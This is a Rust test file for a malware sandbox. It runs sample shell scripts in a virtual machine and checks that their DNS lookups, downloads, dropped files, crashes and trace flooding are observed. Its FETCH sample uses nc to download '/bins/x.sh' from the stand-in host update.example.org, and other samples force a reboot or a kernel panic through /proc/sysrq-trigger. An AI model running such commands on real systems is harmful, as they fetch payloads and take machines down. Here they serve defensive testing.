//! Whole runs: a sample in a machine, with the virtual Internet.

use crate::guest::with_agent;
use std::time::{Duration, SystemTime};
use ukai_driver::{Ca, SystemWorld, World as _};
use ukai_model::EventKind;
use ukai_sandbox::image::System;
use ukai_sandbox::limits::NOTICES_MAX;
use ukai_sandbox::run::{Authority, Conditions, Ended, Plan, Seen, Setup, run};
use ukai_servers::replies::ReplySet;
use ukai_trace::{Notice, What};

fn setup(conditions: &str, seconds: u64) -> Setup {
    let ca = Ca::make("Test", SystemTime::now().into(), SystemWorld.random()).expect("a CA");
    Setup {
        time: Duration::from_secs(seconds),
        conditions: Conditions::named(conditions).expect("known"),
        environment: Vec::new(),
        clock_shift_s: 0,
        skip_sleep: true,
        memory: false,
        record: None,
        authority: Authority { certificate: ca.certificate_pem().to_owned(), key: ca.key_pem() },
        replies: ReplySet::shipped(),
    }
}

/// Runs a shell script as a sample.
async fn runs(script: &str, setup: &Setup) -> Seen {
    let path = b"/tmp/loader.sh".to_vec();
    let plan = Plan {
        system: System::Linux,
        architecture: "sh".to_owned(),
        path: path.clone(),
        program: b"/bin/sh".to_vec(),
        arguments: vec![b"sh".to_vec(), path],
        emulator: None,
    };
    run(&with_agent().await, script.as_bytes(), &plan, setup).await.expect("a run")
}

fn names(seen: &Seen) -> Vec<String> {
    let name = |kind: &EventKind| match kind {
        EventKind::DnsQuery { name, .. } => Some(name.to_string()),
        _ => None,
    };
    let mut names: Vec<_> = seen.events.iter().filter_map(|event| name(&event.kind)).collect();
    names.dedup();
    names
}

fn destinations(seen: &Seen) -> usize {
    let reached = |kind: &EventKind| matches!(kind, EventKind::Destination { .. });
    seen.events.iter().filter(|event| reached(&event.kind)).count()
}

/// By hand, since a static C library does not resolve names.
const FETCH: &str = "\
a=$(nslookup -type=a update.example.org | awk '/^Name/ { getline; print $2 }')
[ \"$a\" ] && printf 'GET /bins/x.sh HTTP/1.0\\r\\nHost: update.example.org\\r\\n\\r\\n' | \
    nc -w 5 $a 80 > /tmp/dropped
";

#[tokio::test(flavor = "multi_thread")]
async fn what_a_sample_fetches_and_leaves_behind_is_seen() {
    let folder = tempfile::tempdir().expect("a folder");
    let record = folder.path().join("record");
    let setup = Setup { record: Some(record.clone()), ..setup("open", 30) };
    let seen = runs(FETCH, &setup).await;
    assert_eq!((seen.ended, &seen.reason), (Ended::Exited, &None));
    assert!(seen.until_running.is_some());
    assert_eq!(names(&seen), ["update.example.org"]);
    assert_eq!(destinations(&seen), 1);
    let asked = seen.events.iter().any(|event| match &event.kind {
        EventKind::HttpRequest { target, .. } => target.to_string().ends_with("/bins/x.sh"),
        _ => false,
    });
    assert!(asked, "{:?}", seen.events);
    let dropped = seen.notices.iter().any(|notice| match &notice.what {
        What::File { bytes, .. } => !bytes.is_empty(),
        _ => false,
    });
    assert!(dropped, "{:?}", seen.notices);
    // Packets are there for whoever wants to read them.
    let packets = std::fs::read_dir(record.join("packets")).expect("a folder").count();
    assert_eq!(packets, 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_network_is_what_the_scenario_says() {
    let missing = runs(FETCH, &setup("nxdomain", 30)).await;
    assert_eq!((names(&missing).len(), destinations(&missing)), (1, 0));
    let refused = runs(FETCH, &setup("refused", 30)).await;
    assert_eq!(names(&refused), ["update.example.org"]);
    assert!(
        !refused.events.iter().any(|event| matches!(event.kind, EventKind::HttpRequest { .. }))
    );
    let slow = runs(FETCH, &setup("slow", 30)).await;
    assert!(slow.events.iter().any(|event| matches!(event.kind, EventKind::HttpRequest { .. })));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_sample_that_stays_is_watched_until_its_time_is_up() {
    let seen = runs("echo me > /tmp/dropped; sleep 600", &setup("open", 2)).await;
    assert_eq!((seen.ended, seen.reason), (Ended::TimeUsed, None));
    let dropped = |notice: &Notice| matches!(notice.what, What::File { .. });
    assert!(seen.notices.iter().any(dropped));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_sample_that_cannot_be_started_is_told() {
    let guest = with_agent().await;
    let plan = Plan {
        system: System::Linux,
        architecture: "x86-64".to_owned(),
        path: b"/tmp/x".to_vec(),
        program: b"/tmp/x".to_vec(),
        arguments: vec![b"/tmp/x".to_vec()],
        emulator: None,
    };
    let broken = b"\x7fELF nothing";
    let seen = run(&guest, broken, &plan, &setup("open", 5)).await.expect("a run");
    assert_eq!(seen.ended, Ended::NotStarted);
    let failed = |notice: &Notice| matches!(notice.what, What::Failed { .. });
    assert!(seen.notices.iter().any(failed));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_guest_that_restarts_or_panics_leaves_what_was_seen_until_then() {
    for end in ["reboot -f", "echo c > /proc/sysrq-trigger"] {
        let seen = runs(&format!("{FETCH}{end}; sleep 60"), &setup("open", 30)).await;
        assert_eq!(seen.ended, Ended::GuestEnded, "{end}");
        assert!(seen.reason.is_some());
        assert_eq!(names(&seen), ["update.example.org"]);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_guest_that_says_what_is_no_trace_is_cut_off() {
    let seen = runs("printf '\\377\\377\\377\\377nonsense' > /tmp/say", &setup("open", 20)).await;
    assert_eq!(seen.ended, Ended::GuestEnded);
    let reason = seen.reason.expect("a reason");
    assert!(reason.contains("a frame of 4294967295 bytes"), "{reason}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_guest_that_floods_its_trace_takes_no_more_than_its_room() {
    let mut frame = Vec::new();
    Notice { at_ns: 1, pid: 2, what: What::Name { name: b"x".to_vec() } }.encode(&mut frame);
    let octal: Vec<_> = frame.iter().map(|byte| format!("\\{byte:03o}")).collect();
    let octal = octal.concat();
    // A file of many frames, said again and again.
    let script = format!(
        "printf '{octal}' > /tmp/one; for i in 1 2 3 4 5 6 7 8 9 10; do \
         cat /tmp/one /tmp/one > /tmp/two; mv /tmp/two /tmp/one; done; \
         touch /tmp/again; mv /tmp/one /tmp/say; exit"
    );
    let seen = runs(&script, &setup("open", 4)).await;
    assert!(seen.notices.len() <= NOTICES_MAX);
    assert!(seen.notices.len() > 1_000, "{}", seen.notices.len());
}
